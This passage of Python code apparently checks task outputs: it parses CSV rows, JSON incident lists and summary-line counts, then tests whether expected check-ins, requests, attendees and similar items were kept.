        j, to = h.index("Job"), h.index("Recipient")
        out["attendee"] = {r[to] for r in rows if r[j] == "certificate_event"}
    try:
        incidents = json.loads(runs[3].out)["incidents"]
        out["incident"] = {int(i["description"].rsplit("#", 1)[1]) for i in incidents}
    except (ValueError, KeyError, IndexError):
        pass
    return out


def _counted(out: str, prefix: str, marker: str) -> set:
    """The count a summary line states ("[blog-reviews] 12 proposals in ..."), as a one-element set."""
    for line in out.splitlines():
        line = line.strip()
        if line.startswith(prefix) and marker in line:
            try:
                return {int(line[len(prefix):].split(" ", 1)[0])}
            except ValueError:
                return set()
    return set()


def _kept(found: dict[str, set], row: int, want: tuple) -> bool:
    kind = want[0]
    if kind == "checkin":
        return row in found["checkin"] and all((row, s) in found["activity"] for s in want[1])
    if kind == "ambassador":
        return want[1] in found["ambassador"]
    if kind in ("request", "inquiry", "incident"):
        return row in found[kind]
    if kind == "attendee":
        return want[1] in found["attendee"]
    return kind == "proposal"  # a proposal is counted as a whole in `check_proposals`
